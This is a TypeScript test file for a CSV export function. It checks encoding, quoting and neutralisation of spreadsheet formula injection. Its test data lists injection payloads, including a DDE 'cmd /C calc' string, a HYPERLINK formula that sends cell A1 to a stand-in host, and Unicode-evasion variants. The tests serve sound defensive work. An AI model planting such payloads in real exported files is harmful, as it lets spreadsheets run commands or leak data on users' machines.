import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFile } from '../../../exchange/lists/csv-file.ts';

const textOf = (rows: readonly (readonly string[])[], headings = ['Who', 'What']): string =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(csvFile({ headings, rows }));

/** Reads CSV back as RFC 4180 has it, character by character, so that nothing of the writer is trusted. */
function read(text: string): string[][] {
  const lines: string[][] = [[]];
  let at = text.startsWith('\uFEFF') ? 1 : 0;
  while (at < text.length) {
    expect(text[at]).toBe('"');
    let cell = '';
    for (at += 1; !(text[at] === '"' && text[at + 1] !== '"'); at += 1) {
      if (text[at] === '"') at += 1;
      cell += text[at] ?? '';
    }
    lines.at(-1)?.push(cell);
    at += 1;
    if (text[at] === ',') at += 1;
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n');
      at += 2;
      if (at < text.length) lines.push([]);
    }
  }
  return lines;
}

describe('a list as CSV', () => {
  it('CSV-1 begins with the mark that spreadsheets look for, and ends each line with CR and LF', () => {
    expect(textOf([['Ŵyn, Gwen', 'said “no”']])).toBe('\uFEFF"Who","What"\r\n"Ŵyn, Gwen","said “no”"\r\n');
    expect([...csvFile({ headings: ['Name'], rows: [] })].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('CSV-1 keeps commas, quotation marks and lines inside their cell', () => {
    const rows = [
      ['a "b", c', 'one\ntwo'],
      ['', ' '],
    ];
    expect(read(textOf(rows))).toEqual([['Who', 'What'], ...rows]);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://example.org?x="&A1,"open")',
    '+44 1632 960103',
    '-2+3+cmd|’ /C calc’!A0',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '=',
    '-',
  ])('CSV-1 takes the formula out of a cell that begins like one: %j', (cell) => {
    const [, line] = read(textOf([[cell, 'beside it']]));
    expect(line).toEqual([`'${cell}`, 'beside it']);
  });

  it.each(['O’Callaghan', '1+1=2', 'a@example.org', '2026-11-23', '–', '', "'=1+1"])(
    'CSV-1 leaves what is no formula as it is: %j',
    (cell) => {
      expect(read(textOf([[cell, 'x']]))[1]).toEqual([cell, 'x']);
    },
  );

  it('CSV-1 gives back every cell, whatever stands in it, with at most an apostrophe before it', () => {
    const cell = fc.string({ unit: fc.constantFrom(...Array.from('=+-@",;\t\r\n\' ab\u200bŵ')) });
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 8 }), (rows) => {
        const back = read(textOf(rows)).slice(1);
        expect(back.length).toBe(rows.length);
        for (const [row, line] of back.entries()) {
          for (const [column, got] of line.entries()) {
            const given = rows[row]?.[column];
            expect([given, `'${given}`]).toContain(got);
            expect(got).not.toMatch(/^[\s\u200b]*[=+\-@]|^[\t\r\n]/);
          }
        }
      }),
    );
  });
});
